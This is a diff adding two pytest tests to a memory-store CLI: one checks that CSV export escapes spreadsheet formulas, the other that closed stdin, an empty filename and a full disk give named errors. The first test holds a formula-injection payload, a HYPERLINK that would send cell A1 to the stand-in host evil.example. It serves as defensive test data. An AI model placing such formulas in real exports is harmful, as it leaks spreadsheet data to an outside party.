@@ -185,3 +185,49 @@ def test_a_setting_out_of_range_is_named_without_its_value(store_url: str) -> No
     message = one_line_error(result)
     assert message.startswith("memcurator: setting MEMCURATOR_EXPIRE_AFTER_DAYS: ")
     assert "1e9" not in message and "1000000000" not in message
+
+
+def test_the_csv_export_keeps_a_spreadsheet_from_running_content_as_a_formula(
+    store_url: str, tmp_path: Path
+) -> None:
+    import csv
+    import io
+
+    path = tmp_path / "in.jsonl"
+    hostile = '=HYPERLINK("http://evil.example/?leak="&A1,"click") is my status page'
+    path.write_bytes(line(id="c_formula", content=hostile) + b"\n")
+    assert run("init", url=store_url).returncode == 0
+    assert run("ingest", str(path), url=store_url).returncode == 0
+    exported = run("export", "--format", "csv", url=store_url)
+    (row,) = csv.DictReader(io.StringIO(exported.stdout))
+    assert row["content"] == "'" + hostile
+    (entry,) = [json.loads(x) for x in run("export", url=store_url).stdout.splitlines()]
+    assert entry["content"] == hostile  # the store and the JSON Lines keep it as it was
+
+
+def test_input_and_output_that_fail_below_the_cli_are_named_not_internal(
+    store_url: str, tmp_path: Path
+) -> None:
+    """Found by a review (2026-12-07): each was "internal error" (exit 1)."""
+    env = {k: v for k, v in os.environ.items() if not k.startswith("MEMCURATOR_")}
+    env["MEMCURATOR_DATABASE_URL"] = store_url
+    assert run("init", url=store_url).returncode == 0
+    closed = subprocess.run(
+        [*CLI, "ingest", "-"], env=env, capture_output=False, stderr=subprocess.PIPE,
+        stdout=subprocess.DEVNULL, text=True, timeout=120, preexec_fn=lambda: os.close(0),
+    )  # fmt: skip
+    assert closed.returncode == 3
+    assert "cannot read standard input: it is closed" in one_line_error(closed)
+    unnamed = run("ingest", "", url=store_url)
+    assert unnamed.returncode == 2 and "no input file named" in one_line_error(unnamed)
+    if Path("/dev/full").exists():
+        path = tmp_path / "in.jsonl"
+        path.write_bytes(line() + b"\n")
+        assert run("ingest", str(path), url=store_url).returncode == 0
+        with open("/dev/full", "w") as full:
+            result = subprocess.run(
+                [*CLI, "export"], env=env, stdout=full, stderr=subprocess.PIPE, text=True,
+                timeout=120,
+            )  # fmt: skip
+        assert result.returncode == 3
+        assert "input/output error" in one_line_error(result)
